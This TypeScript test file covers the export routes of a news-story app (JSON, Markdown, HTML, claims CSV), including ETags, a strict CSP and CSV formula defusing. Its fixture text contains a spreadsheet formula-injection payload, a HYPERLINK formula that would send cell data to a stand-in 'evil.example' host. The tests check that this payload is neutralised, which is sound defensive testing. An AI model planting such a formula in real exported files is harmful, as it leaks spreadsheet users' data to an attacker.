// Exports of a story (JSON, Markdown, HTML, CSV of claims): routes, downloads with ETags, links on the story page, CSV quoting and formula defusing.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { parseHTML } from 'linkedom';
import { expectProblem, json, seededApp, type SeededApp } from '../../test/server-fixture.js';
import { CLAIM_COLUMNS, csvCell } from './exports.js';

/** RFC 4180 parsing, strict: quoted fields, doubled quotes, CRLF rows; throws on a stray quote. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  const body = text.replace(/^\uFEFF/, '');
  while (i < body.length) {
    let cell = '';
    if (body[i] === '"') {
      i++;
      for (;;) {
        const quote = body.indexOf('"', i);
        if (quote < 0) throw new Error('CSV: unterminated quoted field');
        cell += body.slice(i, quote);
        i = quote + 1;
        if (body[i] === '"') {
          cell += '"';
          i++;
        } else break;
      }
    } else {
      const end = body.slice(i).search(/,|\r\n/);
      cell = end < 0 ? body.slice(i) : body.slice(i, i + end);
      if (cell.includes('"')) throw new Error(`CSV: a quote in an unquoted field: ${cell}`);
      i += cell.length;
    }
    row.push(cell);
    if (body.startsWith(',', i)) i++;
    else if (body.startsWith('\r\n', i)) {
      i += 2;
      rows.push(row);
      row = [];
    } else if (i < body.length) throw new Error(`CSV: expecting , or CRLF at ${i}, instead found ${JSON.stringify(body.slice(i, i + 10))}`);
  }
  if (row.length) rows.push(row);
  return rows;
}

test('csvCell: text quoted with quotes doubled; numbers bare; a cell a spreadsheet would run as a formula starts with an apostrophe', () => {
  assert.equal(csvCell('plain'), '"plain"');
  assert.equal(csvCell('say "hi", then\r\nleave'), '"say ""hi"", then\r\nleave"');
  assert.equal(csvCell(42), '42');
  assert.equal(csvCell(null), '');
  for (const formula of ['=1+1', '+1', '-2', '@SUM(A1)', '\t=1', '\r=1', '  =HYPERLINK("http://x")', '\u00A0=1', '＝1+1']) {
    assert.ok(csvCell(formula).startsWith(`"'`), `${JSON.stringify(formula)} -> ${csvCell(formula)}`);
  }
  assert.equal(csvCell('1 = 1'), '"1 = 1"', 'an equals sign inside is text');
  assert.equal(csvCell('\u202Eevil'), '"[U+202E]evil"', 'a bidi override is shown as its code');
  assert.deepEqual(parseCsv(`${['=1', 'a,"b"', 'x\r\ny'].map(csvCell).join(',')}\r\n`), [["'=1", 'a,"b"', 'x\r\ny']]);
});

const FORMULA_TEXT = [
  '=HYPERLINK("http://evil.example/steal?d="&A1,"Click for details") was written on the wall of the harbour office on Monday.',
  '+44 callers phoned the harbour office about the new lighthouse lamp that evening, a spokesman said.',
  '@everyone in the fishing fleet was told to expect the beam from the lighthouse by Friday night.',
  'The lighthouse keeper said the lamp can be seen forty kilometres out at sea, officials said.',
].join(' ');

describe('exports of a story', () => {
  let s: SeededApp;
  let hostileStory: number;
  before(async () => {
    s = await seededApp();
    const posted = (await (
      await s.app.request('/api/articles', json([
        { id: 'f1', outlet: '=cmd.example', title: 'Lighthouse to open', text: FORMULA_TEXT, published: '2023-02-01T00:00:00Z' },
        { id: 'f2', outlet: 'harbour.example', title: 'Lighthouse lamp', text: `${FORMULA_TEXT} The keeper added that the old light failed twice last winter.`, published: '2023-02-01T03:00:00Z' },
      ]))
    ).json()) as { items: { story: number }[] };
    hostileStory = posted.items[0]!.story;
    assert.equal(posted.items[1]!.story, hostileStory);
  });
  after(() => s.close());

  const EXPORTS = [
    ['brief.json', /^application\/json/],
    ['brief.md', /^text\/markdown/],
    ['brief.html', /^text\/html/],
    ['claims.csv', /^text\/csv/],
  ] as const;

  test('each export is a download with its media type, an ETag and 304 for If-None-Match; an unknown story is 404', async () => {
    for (const [file, type] of EXPORTS) {
      const response = await s.app.request(`/api/stories/1/${file}`);
      assert.equal(response.status, 200, file);
      assert.match(response.headers.get('content-type') ?? '', type, file);
      assert.equal(response.headers.get('content-disposition'), `attachment; filename="story-1-${file}"`);
      const etag = response.headers.get('etag')!;
      assert.match(etag, /^"story-1-v\d+-.+"$/);
      const cached = await s.app.request(`/api/stories/1/${file}`, { headers: { 'if-none-match': etag } });
      assert.equal(cached.status, 304, file);
      await expectProblem(await s.app.request(`/api/stories/424242/${file}`), 404, `${file} of an unknown story`);
    }
    const tags = await Promise.all(EXPORTS.map(async ([file]) => (await s.app.request(`/api/stories/1/${file}`)).headers.get('etag')));
    assert.equal(new Set(tags).size, 4, 'each format its own tag');
  });

  test('JSON is the brief the API gives; Markdown and HTML render it', async () => {
    const api = (await (await s.app.request('/api/stories/1')).json()) as { brief: { story: { title: string }; sources: unknown[] } };
    const exported = JSON.parse(await (await s.app.request('/api/stories/1/brief.json')).text()) as unknown;
    assert.deepEqual(exported, api.brief);
    const markdown = await (await s.app.request('/api/stories/1/brief.md')).text();
    assert.ok(markdown.startsWith(`# ${api.brief.story.title.replace(/[*_[\]]/g, (c) => `\\${c}`)}`), markdown.slice(0, 100));
    assert.match(markdown, /## Summary/);
    const response = await s.app.request('/api/stories/1/brief.html');
    const html = await response.text();
    const { document } = parseHTML(html);
    assert.equal(document.querySelector('h1')?.textContent, api.brief.story.title);
    assert.equal(document.querySelectorAll('script').length, 0);
    // Its own policy: no script, and only its inline stylesheet, by hash.
    const style = document.querySelector('style')!.textContent!;
    const policy = response.headers.get('content-security-policy') ?? '';
    assert.match(policy, /default-src 'none'/);
    assert.ok(policy.includes(`style-src 'sha256-${createHash('sha256').update(style).digest('base64')}'`), policy);
    assert.doesNotMatch(policy, /unsafe|script-src/);
  });

  test('CSV: a header and one row per claim and source; statements are the article text at their offsets', async () => {
    const rows = parseCsv(await (await s.app.request('/api/stories/1/claims.csv')).text());
    assert.deepEqual(rows[0], [...CLAIM_COLUMNS]);
    const body = rows.slice(1);
    assert.ok(body.length >= 10, `rows: ${body.length}`);
    for (const row of body) assert.equal(row.length, CLAIM_COLUMNS.length);
    const brief = (await (await s.app.request('/api/stories/1')).json()) as { brief: { claims: { sources: unknown[] }[]; conflicts: { sides: unknown[] }[]; singleSourceClaims: { claims: unknown[] }[] } };
    const expected = brief.brief.claims.reduce((n, c) => n + c.sources.length, 0) + brief.brief.conflicts.reduce((n, c) => n + c.sides.length, 0) + brief.brief.singleSourceClaims.reduce((n, c) => n + c.claims.length, 0);
    assert.equal(body.length, expected);
    const statuses = new Set(body.map((r) => r[1]));
    for (const status of statuses) assert.ok(['corroborated', 'one origin', 'conflict', 'minor conflict', 'single source'].includes(status!), status);
    for (const status of ['corroborated', 'single source']) assert.ok(statuses.has(status), status);
    assert.ok(statuses.has('conflict') || statuses.has('minor conflict'), 'the seeds disagree over the day of the pledge');
    const texts = new Map<string, string>();
    for (const row of body) {
      const article = row[6]!;
      if (!texts.has(article)) texts.set(article, ((await (await s.app.request(`/api/articles/${article}`)).json()) as { text: string }).text);
      assert.equal(texts.get(article)!.slice(Number(row[7]), Number(row[8])), row[9], `claim ${row[0]}: the statement at its offsets`);
    }
  });

  test('CSV of a story whose text and outlet start with formulas: every such cell is defused', async () => {
    const text = await (await s.app.request(`/api/stories/${hostileStory}/claims.csv`)).text();
    const rows = parseCsv(text).slice(1);
    assert.ok(rows.length > 0);
    const cells = rows.flat();
    assert.ok(cells.some((c) => c.startsWith("'=HYPERLINK(")), 'the HYPERLINK sentence is there, defused');
    assert.ok(cells.some((c) => c === "'=cmd.example"), 'the outlet, defused');
    for (const cell of cells) assert.doesNotMatch(cell, /^[\s\u00A0]*[=+\-@]/, `a live formula: ${cell.slice(0, 60)}`);
  });

  test('the story page links to the four exports', async () => {
    const { document } = parseHTML(await (await s.app.request('/stories/1')).text());
    const links = [...document.querySelectorAll('.exports a')].map((a) => [a.textContent, a.getAttribute('href')]);
    assert.deepEqual(links, [
      ['JSON', '/api/stories/1/brief.json'],
      ['Markdown', '/api/stories/1/brief.md'],
      ['HTML', '/api/stories/1/brief.html'],
      ['Claims (CSV)', '/api/stories/1/claims.csv'],
    ]);
    for (const [, href] of links) assert.equal((await s.app.request(href!)).status, 200);
  });
});
